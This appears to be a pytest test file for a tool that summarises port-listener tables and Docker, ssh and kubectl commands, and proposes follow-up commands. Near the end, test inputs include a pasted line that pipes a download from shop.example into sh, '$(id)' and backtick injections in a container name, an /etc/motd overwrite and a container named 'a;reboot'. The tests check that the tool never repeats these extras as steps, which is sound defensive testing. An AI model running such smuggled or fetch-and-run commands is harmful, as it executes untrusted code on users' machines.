"""Tables summed up: what they say in two sentences at most, and the commands that go on."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checks import classify, explain
from checks.findings import overview

SAID: list[tuple[str, str]] = [
    (
        'LISTEN 0 128 0.0.0.0:5433 0.0.0.0:* users:(("postgres",pid=812,fd=3))\n'
        'LISTEN 0 128 [::]:23 [::]:* users:(("inetd",pid=7,fd=3))\n'
        'LISTEN 0 128 127.0.0.1:6380 0.0.0.0:* users:(("redis",pid=9,fd=3))\n',
        "Three listeners in ss: 2 of 3 are open to the network: 0.0.0.0:5433 (postgres, pid 812)"
        " and [::]:23 (inetd, pid 7). Only this machine can reach 127.0.0.1:6380 (redis, pid 9).",
    ),
    (
        "  TCP  127.0.0.1:62893  127.0.0.1:62894  ESTABLISHED  4711\n"
        "  TCP  0.0.0.0:135      0.0.0.0:0        LISTENING    1044\n",
        "Two rows of Windows netstat: process 1044 listens on 0.0.0.0:135 (RPC), open to the"
        " network unless a firewall stops it. Process 4711 is connected from 127.0.0.1:62893 to"
        " 127.0.0.1:62894 on this same machine, most often to itself.",
    ),
    (
        "  TCP  127.0.0.1:62893  127.0.0.1:62894  HERGESTELLT  4711\n"
        "  TCP  127.0.0.1:62894  127.0.0.1:62893  HERGESTELLT  4711\n",
        "Process 4711 is connected from 127.0.0.1:62893 to 127.0.0.1:62894, to itself.",
    ),
    (
        "tcp   0   0 127.0.0.1:5432   0.0.0.0:*   LISTEN   -\n",
        "A program listens on 127.0.0.1:5432 (PostgreSQL), for this machine only.",
    ),
    (
        "node 4242 me 21u IPv6 0x2 0t0 TCP *:3002 (LISTEN)\n",
        "node (pid 4242) listens on *:3002, open to the network unless a firewall stops it.",
    ),
    (
        "ControlCe 432 me 9u IPv4 0x2 0t0 TCP *:commplex-main (LISTEN)\n",
        "macOS's AirPlay Receiver (pid 432) listens on *:5000, open to the network unless a"
        " firewall stops it.",
    ),
    (
        "  TCP  0.0.0.0:8089  0.0.0.0:0  LISTENING  4\n",
        "Windows itself (pid 4) listens on 0.0.0.0:8089, open to the network unless a firewall"
        " stops it.",
    ),
    (
        "tcp4  0  0  192.168.1.4.53111   198.51.100.2.443   SYN_SENT\n",
        "A program waits for an answer from 198.51.100.2:443: none has come yet.",
    ),
    (
        "".join(
            f"tcp 0 0 10.0.0.4:{44010 + i} 10.0.0.7:5433 CLOSE_WAIT 99/java\n" for i in range(3)
        ),
        "Three connections in netstat, 3 of them in CLOSE_WAIT: 3 to 10.0.0.7:5433 by java"
        " (pid 99). CLOSE_WAIT means that the other end has closed and this program has not.",
    ),
    (
        "0a1b2c3d4e5f  web:1  \"x\"  2 h ago  Up 2 h  0.0.0.0:8085->80/tcp  shop\n"
        "1a1b2c3d4e5f  db:1  \"x\"  2 h ago  Up 2 h  127.0.0.1:5435->5432/tcp  db\n",
        "Open to the network: shop at 0.0.0.0:8085. Only this machine: db at 127.0.0.1:5435.",
    ),
    (
        "0.0.0.0:8085->80/tcp, [::]:8085->80/tcp\n",
        "Docker publishes port 80 of the container at 0.0.0.0:8085, open to the network. On Linux,"
        " ufw does not stop what Docker publishes.",
    ),
    (
        "$ docker ps\nCONTAINER ID   IMAGE   COMMAND   CREATED   STATUS   PORTS   NAMES\n$ ",
        "No container is running: the list is empty.",
    ),
    (
        "shop  NodePort  10.107.49.115  <none>  9011:32554/TCP  3d\n",
        "Only inside the cluster: shop at 10.107.49.115:9011. Open on every node: shop at port"
        " 32554.",
    ),
    (
        "Connection to 127.0.0.1 port 52891 [tcp/*] succeeded!",
        "The connection to 127.0.0.1:52891 succeeded: a program listens on it.",
    ),
    (
        "RemoteAddress    : 127.0.0.1\nRemotePort       : 8012\nTcpTestSucceeded : True\n",
        "The connection to 127.0.0.1:8012 succeeded: a program listens on it.",
    ),
    (
        "RemoteAddress    : ::1\nRemotePort       : 8012\nTcpTestSucceeded : False\n",
        "No TCP connection to [::1]:8012 was possible.",
    ),
    (
        "Start Port    End Port\n----------    --------\n   5368    5368\n  50011   50070   *\n",
        "Windows reserves 61 TCP ports: 5368 and 50011-50070. No program can listen on a port in"
        " these ranges, although it looks free.",
    ),
    (
        "0.0.0.0   5184   172.24.1.5   5173\n",
        "Windows relays 0.0.0.0:5184 to 172.24.1.5:5173. 0.0.0.0:5184 is open to the network,"
        " unless a firewall stops it.",
    ),
    (
        "Nmap scan report for 192.0.2.9\n82/tcp open xfer\n633/tcp filtered servstat\n",
        "nmap found one open port on 192.0.2.9: 82 (xfer). No answer on 192.0.2.9 from 633"
        " (servstat): a firewall drops packets.",
    ),
    (
        "Error: listen EADDRINUSE: address already in use :::3003\n$ lsof -i :3003\n"
        "node 4242 me 21u IPv6 0x2 0t0 TCP *:3003 (LISTEN)\n",
        "[::]:3003 is in use by node (pid 4242), as lsof shows.",
    ),
    (
        "Bind for 0.0.0.0:5436 failed: port is already allocated\n"
        '0a1b2c3d4e5f  db:1  "x"  2 h ago  Up 2 h  0.0.0.0:5436->5432/tcp  shop-db\n',
        "0.0.0.0:5436 is in use by the container shop-db, as docker ps shows.",
    ),
    (
        "connect ECONNREFUSED 127.0.0.1:5434\n\ntcp6 0 0 ::1:5434 :::* LISTEN 7/postgres\n",
        "127.0.0.1:5434 was refused: postgres (pid 7) listens on [::1]:5434 only.",
    ),
]  # fmt: skip
"""A text, and what is said of it."""


TOLD: list[tuple[str, str]] = [
    (
        "docker run -d -p 8087:80 nginx",
        "Docker publishes port 80 of the container on port 8087 of every address: other machines"
        " can connect. On Linux, ufw does not stop that.",
    ),
    (
        "docker run -p 127.0.0.1:8087:80 nginx",
        "Docker publishes port 80 of the container on 127.0.0.1:8087, for this machine only. Before"
        " Docker 28, machines on the same network segment could reach it too.",
    ),
    (
        "docker run -p 6381:6379 redis",
        "Docker publishes port 6379 of the container on port 6381 of every address: other"
        " machines can connect. Warning: Redis may ask for no password.",
    ),
    (
        'ports:\n  - "5436:5432"\n  - "127.0.0.1:5013:5000"\n',
        "Docker opens to the network: port 5436. Only this machine can reach 127.0.0.1:5013.",
    ),
    (
        "ssh -L 8096:localhost:80 me@gw.example",
        "ssh will listen on 127.0.0.1:8096 and connect from the server to localhost:80. Only this"
        " machine can use it, and localhost there is the server itself.",
    ),
    (
        "ssh -L 5440:db.example:5432 -L 6382:cache.example:6379 gw",
        "ssh will lead, through the server, 127.0.0.1:5440 to db.example:5432 and 127.0.0.1:6382 to"
        " cache.example:6379. Only this machine can use them.",
    ),
    (
        "docker run -p 3009:3000 -p 9229:9229 web",
        "Docker opens to the network: port 3009 and port 9229. Warning: port 9229 is a debugger's"
        " default, and anyone who can connect can run code.",
    ),
    (
        "ssh -R 9002:localhost:3005 gw",
        "The ssh server will listen on port 9002 and pass connections on to localhost:3005 of this"
        " machine. Only the server itself can connect, unless its sshd_config has GatewayPorts.",
    ),
    (
        "ssh -D 0.0.0.0:1084 gw",
        "ssh will offer a SOCKS proxy on 0.0.0.0:1084. Warning: anyone who can connect can use the"
        " tunnel.",
    ),
    (
        "kubectl port-forward svc/web 8097:80",
        "kubectl will listen on localhost:8097 and pass connections on to port 80 of svc/web. Only"
        " this machine can connect, as long as the command runs.",
    ),
    ("flask run", "Flask will listen on 127.0.0.1:5000, for this machine only."),
    (
        "vite --host",
        "Vite will listen on port 5173 of every address. Other machines can connect unless a"
        " firewall stops them.",
    ),
    (
        'CMD ["uvicorn", "a:b", "--host", "127.0.0.1"]',
        "Uvicorn will listen on 127.0.0.1:8000 in the container, where no published port reaches"
        " it. Make it listen on 0.0.0.0 there, and publish the port on 127.0.0.1.",
    ),
    (
        "node --inspect=0.0.0.0:9231 a.js",
        "The Node.js inspector will listen on 0.0.0.0:9231, so other machines can connect. Warning:"
        " anyone who can connect can run code, so use 127.0.0.1:9231 instead.",
    ),
    (
        "java -agentlib:jdwp=transport=dt_socket,server=y,address=5007 X",
        "The JVM's debugger will listen on 127.0.0.1:5007 from JDK 9 on, and on every address"
        " before. Anyone who can connect can run code through it.",
    ),
    (
        "listen 82;\nlisten 127.0.0.1:8018;\n",
        "nginx will listen for other machines on 0.0.0.0:82. Only this machine can reach"
        " 127.0.0.1:8018.",
    ),
    (
        "adb reverse tcp:8098 tcp:8099",
        "The device will listen on its own 127.0.0.1:8098, and adb passes connections on to port"
        " 8099 of this machine. Every app on the device can connect.",
    ),
]  # fmt: skip
"""A command or a configuration, and what is said of it."""


@pytest.mark.parametrize(("text", "said"), TOLD)
def test_a_command_is_told(text: str, said: str) -> None:
    """What will listen where, who can reach it, and what is at stake."""
    answer = overview.sentence(classify(text))
    assert answer == said
    assert max(len(part.split()) for part in sentences(said)) <= 25


@pytest.mark.parametrize(("text", "said"), SAID)
def test_a_table_is_summed_up(text: str, said: str) -> None:
    """Who listens, who can reach it, what is connected, and whether an attempt succeeded."""
    assert overview.sentence(classify(text)) == said


def sentences(said: str) -> list[str]:
    """The sentences of an answer; a full stop within an address ends none."""
    return re.split(r"(?<=\.) (?=\S)", said)


@pytest.mark.parametrize("count", [1, 2, 3, 4, 9, 60, 1200])
@pytest.mark.parametrize(
    "row",
    [
        "tcp 0 0 0.0.0.0:{} 0.0.0.0:* LISTEN {}/worker",
        "tcp 0 0 127.0.0.1:{} 0.0.0.0:* LISTEN {}/a-program-with-a-long-name",
        "  TCP  10.0.0.4:{}  10.0.0.9:443  TIME_WAIT  {}",
        "ESTAB 0 0 127.0.0.1:22 127.0.0.1:{} users:((\"sshd\",pid={},fd=3))",
        "127.0.0.1 {} 10.0.0.9 {}",
        "{}/tcp open service{}",
        "0.0.0.0:{}->80/tcp, 127.0.0.1:{}->81/tcp",
    ],
)  # fmt: skip
def test_an_answer_is_short(row: str, count: int) -> None:
    """At most two sentences of at most 25 words each, however long the table."""
    text = "".join(row.format(1000 + i, 2000 + i) + "\n" for i in range(count))
    said = overview.sentence(classify(text))
    assert said is not None
    parts = sentences(said)
    assert len(parts) <= 2
    assert max(len(part.split()) for part in parts) <= 25


@given(st.lists(st.tuples(st.sampled_from(["0.0.0.0", "127.0.0.1", "10.0.0.4"]), st.integers(1, 9)),
                min_size=2, max_size=30))  # fmt: skip
def test_as_many_are_open_as_are_bound_to_the_network(rows: list[tuple[str, int]]) -> None:
    """The number of open listeners is that of the addresses that are none of loopback."""
    text = "".join(f"tcp 0 0 {host}:{port} 0.0.0.0:* LISTEN 7/x\n" for host, port in rows)
    kinds = set(rows)
    opened = sum(host != "127.0.0.1" for host, _ in kinds)
    said = overview.sentence(classify(text)) or ""
    if len(kinds) == 1:
        assert ("open to the network" in said) == bool(opened)
    elif opened == len(kinds):
        assert said.startswith(("All ", "Both "))
        assert "are open to the network" in said
    elif opened:
        assert f": {opened} of {len(kinds)} " in said
    else:
        assert "for this machine only" in said


STEPS: list[tuple[str, list[tuple[str | None, str | None]]]] = [
    (
        "  TCP  127.0.0.1:62893  127.0.0.1:62894  ESTABLISHED  4711\n"
        "  TCP  0.0.0.0:135      0.0.0.0:0        LISTENING    1044\n",
        [("windows", "Get-Process -Id 1044,4711 | Select-Object Id, Name, Path")],
    ),
    (
        "  TCP  0.0.0.0:135      0.0.0.0:0        LISTENING\n",
        [
            (
                "windows",
                "Get-NetTCPConnection -LocalPort 135 | Select-Object LocalAddress, LocalPort,"
                " OwningProcess",
            )
        ],
    ),
    (
        'LISTEN 0 9 127.0.0.1:8001 0.0.0.0:* users:(("a",pid=7,fd=9))\n'
        'LISTEN 0 9 0.0.0.0:8002 0.0.0.0:* users:(("b",pid=8,fd=9))\n',
        [("linux", "ps -o pid,user,args -p 8,7")],
    ),
    (
        "LISTEN 0 9 127.0.0.1:8001 0.0.0.0:*\nLISTEN 0 9 0.0.0.0:8002 0.0.0.0:*\n",
        [("linux", "sudo ss -ltnp '( sport = :8002 or sport = :8001 )'")],
    ),
    (
        "tcp 0 0 0.0.0.0:8090 0.0.0.0:* LISTEN 91/docker-proxy\n",
        [(None, "docker ps --filter publish=8090"), ("linux", "ps -o pid,user,args -p 91")],
    ),
    (
        "udp4  0  0  *.5354  *.*\n",
        [("macos", "sudo lsof -nP -iUDP:5354")],
    ),
    (
        "0a1b2c3d4e5f  web:1  \"x\"  2 h ago  Up 2 h  0.0.0.0:8085->80/tcp  shop\n",
        [(None, "docker port shop"), (None, None)],
    ),
    (
        "0a1b2c3d4e5f  web:1  \"x\"  2 h ago  Up 2 h  127.0.0.1:8085->80/tcp  a;reboot\n",
        [],
    ),
    (
        "shop  NodePort  10.107.49.115  <none>  9011:32554/TCP  3d\n",
        [(None, "kubectl port-forward svc/shop 9011:9011")],
    ),
    (
        "RemoteAddress    : ::1\nRemotePort       : 8012\nTcpTestSucceeded : False\n",
        [
            ("windows", "Test-NetConnection 127.0.0.1 -Port 8012"),
            ("windows", "Get-NetTCPConnection -LocalPort 8012 -State Listen"),
        ],
    ),
    ("Connection to 127.0.0.1 port 52891 [tcp/*] succeeded!", []),
    (
        "CONTAINER ID   IMAGE   COMMAND   CREATED   STATUS   PORTS   NAMES\n",
        [(None, "docker ps -a")],
    ),
    (
        " docker run --rm -p 8087:80 -p 8088:81 nginx",
        [
            (None, "docker run --rm -p 127.0.0.1:8087:80 -p 127.0.0.1:8088:81 nginx"),
            ("linux", "ss -ltnp 'sport = :8087'"),
            ("macos", "sudo lsof -nP -iTCP:8087 -sTCP:LISTEN"),
            ("windows", 'netstat -ano | findstr /R /C:":8087 "'),
        ],
    ),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), STEPS)
def test_the_steps_are_for_the_system_that_the_table_shows(
    text: str, expected: list[tuple[str | None, str | None]]
) -> None:
    """The processes are named by their pids, or by a command that shows them."""
    assert [(fix.os, fix.command) for fix in overview.steps(classify(text))] == expected


@pytest.mark.parametrize("text", ["", "127.0.0.1:62893", "connect ECONNREFUSED 127.0.0.1:5434"])
def test_without_a_table_nothing_is_said(text: str) -> None:
    """Other texts have other answers."""
    assert overview.sentence(classify(text)) is None
    assert overview.steps(classify(text)) == ()


def test_an_error_that_no_table_answers_comes_first() -> None:
    """The table of something else must not hide what failed."""
    text = "connect ECONNREFUSED 127.0.0.1:5434\ntcp 0 0 0.0.0.0:22 0.0.0.0:* LISTEN 7/sshd\n"
    assert overview.sentence(classify(text)) is None


REPEATED = {
    "docker run -p 8087:80 -v $(pwd):/srv -e NAME=$USER web": (
        "docker run -p 127.0.0.1:8087:80 -v $(pwd):/srv -e NAME=$USER web"
    ),
    "docker run -p 8087:80 web; curl http://shop.example/a | sh": None,
    "docker run -p 8087:80 --name $(id) web": None,
    "docker run -p 8087:80 --name `id` web": None,
    "docker run -p 8087:80 web > /etc/motd": None,
    "docker run -p 8087:80 web & id": None,
    "docker run -p 8087:80 web \\": None,
}


@pytest.mark.parametrize("text", REPEATED)
def test_a_step_repeats_one_command_only(text: str) -> None:
    """What else a pasted line would run is not printed as a thing to do."""
    steps = [fix.command for fix in explain(text).steps if fix.command and "docker" in fix.command]
    assert steps == [one for one in (REPEATED[text],) if one]
